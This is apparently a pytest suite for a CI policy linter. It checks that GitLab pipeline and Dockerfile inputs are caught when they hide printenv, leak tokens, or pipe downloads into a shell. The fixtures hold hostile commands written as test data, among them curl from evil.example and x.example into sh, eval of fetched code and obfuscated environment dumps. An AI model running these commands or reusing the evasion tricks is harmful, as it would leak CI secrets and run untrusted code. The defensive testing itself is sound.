"""What a hostile answer hides from a reader: in tags, merge keys, other cells, other rules, bodies and joined lines."""

from __future__ import annotations

import pytest

from shared.ci.dockerfile_images import dockerfile_images
from shared.ci.document import parse
from shared.ci.finding import with_line
from shared.ci.lint import check, check_gitlab, errors
from tests.ci.pipelines import DOCKERFILE, PIPELINE, REGISTRY, files
from tests.ci.test_policy import with_command

TRIVY = "image: ${REGISTRY}/aquasec/trivy:0.57.0"


def rules_of(pipeline: str = PIPELINE, dockerfile: str = DOCKERFILE) -> set[str]:
    """The rules of the errors in a pair."""
    return {finding.rule for finding in errors(check(files(pipeline, dockerfile), registry=REGISTRY))}


@pytest.mark.parametrize(
    "image",
    [
        'image: $I\n  parallel: {matrix: [{I: ["${REGISTRY}/a:1", "docker.io/evil:1"]}]}',
        "image: ${REGISTRY}/a:1\n  rules: [{variables: {REGISTRY: docker.io}}]",
        "image: ${REGISTRY}/a:1\n  variables: {REGISTRY: {value: docker.io}}",
    ],
)
def test_every_set_of_variables_is_tried_on_an_image(image: str) -> None:
    """Another cell of a matrix, a rule's variables and the long form change where an image comes from."""
    assert rules_of(PIPELINE.replace(TRIVY, image)) == {"policy-image-registry"}


def test_the_variables_of_the_workflow_are_tried_too() -> None:
    """They stand over the global ones."""
    workflow = "workflow: {rules: [{variables: {REGISTRY: docker.io}}]}\n"
    assert rules_of(workflow + PIPELINE) == {"policy-image-registry"}


@pytest.mark.parametrize("tag", ["!!binary", "!binary", "!<tag:yaml.org,2002:binary>"])
def test_what_gitlab_decodes_is_refused(tag: str) -> None:
    """GitLab's reader makes `printenv` of it."""
    assert "yaml-syntax" in rules_of(PIPELINE.replace("- bandit -r . -ll", f"- {tag} cHJpbnRlbnY="))


def test_a_quoted_merge_key_merges() -> None:
    """GitLab's reader does not ask whether `<<` is quoted."""
    assert parse('a: {"<<": {script: [x]}}').root == {"a": {"script": ["x"]}}
    assert parse("a: {!!str <<: {script: [x]}}").root == {"a": {"<<": {"script": ["x"]}}}


def test_lines_are_joined_as_the_shell_joins_them() -> None:
    """A backslash at the end of a line leaves no blank, in a script and in a Dockerfile."""
    block = PIPELINE.replace("- bandit -r . -ll", "- |\n      pri\\\n      ntenv")
    assert rules_of(block) == {"policy-prints-environment"}
    run = DOCKERFILE.replace("WORKDIR /app", "RUN cu\\\nrl https://x.example/x | sh")
    assert rules_of(dockerfile=run) == {"policy-download-to-shell"}


def test_an_image_is_found_in_every_spelling() -> None:
    """Keys of a mount may be in capitals, and the syntax may stand behind `#!`."""
    mount = DOCKERFILE.replace("WORKDIR /app", "RUN --mount=type=bind,FROM=evil/img:1,target=/x /x/run")
    assert rules_of(dockerfile=mount) == {"policy-image-registry"}
    syntax = f"#!/usr/bin/env builder\n# syntax=evil/img:1\n{DOCKERFILE}"
    assert dockerfile_images(syntax)[0].reference == "evil/img:1"
    assert rules_of(dockerfile=syntax) == {"policy-image-registry"}


SAST = "    - bandit -r . -ll"
HIDDEN = {
    "a key that is no script": PIPELINE.replace(SAST, "    - !reference [.p, payload]") + ".p: {payload: [printenv]}\n",
    "a variable referred to": PIPELINE.replace(SAST, "    - !reference [.p, variables, X]")
    + ".p: {variables: {X: printenv}}\n",
    "a list of its own": PIPELINE.replace(SAST, "    - !reference [.p]") + ".p: [printenv]\n",
    "a variable": with_command("$CMD").replace("  IMAGE:", "  CMD: printenv\n  IMAGE:"),
    "a variable of the shell": with_command("X=print; ${X}env"),
    "parted words": with_command("pr''intenv"),
    "parted by a backslash": with_command("p\\rintenv"),
    "a token in a variable": with_command("T=$CI_JOB_TOKEN; echo $T"),
    "the command of a service": PIPELINE.replace("alias: db", "alias: db\n      command: [sh, -c, printenv]"),
    "an entrypoint": PIPELINE.replace('entrypoint: [""]', "entrypoint: [sh, -c, printenv]", 1),
}
BUILDS = {
    "RUN <<EOF\nprintenv\nEOF": "policy-prints-environment",
    "COPY <<EOF /x.sh\nprintenv\nEOF\nRUN sh /x.sh": "policy-prints-environment",
    "ONBUILD RUN printenv": "policy-prints-environment",
    "HEALTHCHECK CMD printenv": "policy-prints-environment",
    'SHELL ["/bin/sh", "-c", "printenv; $0"]': "policy-prints-environment",
    "ENV CMD=printenv\nRUN $CMD": "policy-prints-environment",
    "ADD https://x.example/x.sh /x.sh\nRUN sh /x.sh": "policy-download-to-shell",
    'ADD --chmod=755 ["https://x.example/x", "/x"]\nCMD ["/x"]': "policy-download-to-shell",
    "ENV API_TOKEN glpat-abcdefghij0123456789": "policy-secret",
    "ENV A=1 DB_PASSWORD=abcdefghij0123456789": "policy-secret",
    "LABEL x=glpat-abcdefghij0123456789": "policy-secret",
    "# glpat-abcdefghij0123456789": "policy-secret",
}


@pytest.mark.parametrize("where", HIDDEN)
def test_what_a_job_runs_is_judged_wherever_it_stands(where: str) -> None:
    """References and variables are put in first, and words put together."""
    assert rules_of(HIDDEN[where]) == {"policy-prints-environment"}


def test_what_is_downloaded_by_a_variable_is_found() -> None:
    """The name of the program, or what it brought, may stand in a variable."""
    assert rules_of(with_command("U=curl; $U https://x.example/x | sh")) == {"policy-download-to-shell"}
    assert rules_of(with_command('X=$(curl -s https://x.example/x); eval "$X"')) == {"policy-download-to-shell"}


@pytest.mark.parametrize("lines", BUILDS)
def test_every_line_that_a_build_runs_is_judged(lines: str) -> None:
    """Heredocs, triggers, checks and downloads by ADD as well, and secrets in whatever form and place."""
    assert rules_of(dockerfile=DOCKERFILE.replace("WORKDIR /app", lines)) == {BUILDS[lines]}


def test_a_finding_in_a_heredoc_is_on_its_line() -> None:
    """Not on that of the instruction."""
    dockerfile = DOCKERFILE.replace("WORKDIR /app", "RUN <<EOF\ntrue\nprintenv\nEOF")
    assert [f.line for f in errors(check(files(dockerfile=dockerfile), registry=REGISTRY))] == [5]


@pytest.mark.parametrize("value", ['"t"', '"$T"', "yes"])
def test_a_debug_trace_is_refused_in_every_spelling(value: str) -> None:
    """Only what is certainly a no passes."""
    traced = PIPELINE.replace("  IMAGE:", f'  T: "true"\n  CI_DEBUG_TRACE: {value}\n  IMAGE:')
    assert rules_of(traced) == {"policy-debug-trace"}
    assert rules_of(PIPELINE.replace("  IMAGE:", '  CI_DEBUG_TRACE: "false"\n  IMAGE:')) == set()


def test_values_from_elsewhere_are_refused() -> None:
    """An input's value is not in the file, whatever its default is."""
    spec = f"spec: {{inputs: {{x: {{default: printenv}}}}}}\n---\n{with_command('$[[ inputs.x ]]')}"
    assert rules_of(spec) == {"policy-include"}


def test_a_secret_in_a_comment_is_found() -> None:
    """Everyone who reads the file reads its comments."""
    assert rules_of(f"# glpat-abcdefghij0123456789\n{PIPELINE}") == {"policy-secret"}


@pytest.mark.parametrize(
    "honest",
    [
        "bandit -r . \\\n  -ll",
        "printf 'a\\nb' | tr '\\n' ' '",
        "V=1.2; echo $V \"it's\" 'x'",
        "NAME=app; docker build -t $NAME .",
        "grep -r 'env' .",
    ],
)
def test_honest_commands_stay_honest(honest: str) -> None:
    """What is put together is not more than what was written."""
    assert rules_of(with_command(honest)) == set()


SECRETS = ("glpat-abcdefghij0123456789", "Zx81abcdefghij0123456789")


def test_no_finding_repeats_a_secret() -> None:
    """Findings go into events and logs: neither their message nor the line beside it has what the rule is about."""
    told = PIPELINE.replace("  IMAGE:", f"  API_TOKEN: {SECRETS[0]}\n  DB_PASSWORD: {SECRETS[1]}\n  IMAGE:")
    told = told.replace("- bandit -r . -ll", f"- curl -o x https://{SECRETS[0]}@evil.example/x && sh x")
    found = check(files(told), registry=REGISTRY)
    said = "".join(with_line(finding, files(told)) for finding in found)
    assert {"policy-secret", "policy-download-to-shell"} <= {finding.rule for finding in found}
    assert not [secret for secret in SECRETS if secret in said]


def test_a_job_needed_twice_is_refused() -> None:
    """GitLab refuses the pipeline: "has the following needs duplicated"."""
    twice = PIPELINE.replace("needs: [build]", "needs: [build, build]")
    assert [f.rule for f in errors(check(files(twice), registry=REGISTRY))] == ["double-need"]


def test_a_dot_that_is_an_argument_sources_nothing() -> None:
    """A name that nothing defines is told, unless a script reads definitions from a file."""
    text = "a:\n  script:\n    - docker build .\n    - echo $NOWHERE\n"
    assert [f.rule for f in check_gitlab(parse(text))] == ["undefined-variable"]
    assert check_gitlab(parse(text.replace("docker build .", ". ./names"))) == []


def test_a_job_that_no_rule_adds_is_refused() -> None:
    """The gate would wait for a job that never is in the pipeline."""
    never = PIPELINE.replace("  needs: []\n", "  needs: []\n  rules: [{if: $X, when: never}, {when: never}]\n")
    assert rules_of(never) == {"policy-manual-job"}
    some = PIPELINE.replace("  needs: []\n", "  needs: []\n  rules: [{if: $CI, when: never}, {when: on_success}]\n")
    assert rules_of(some) == set()
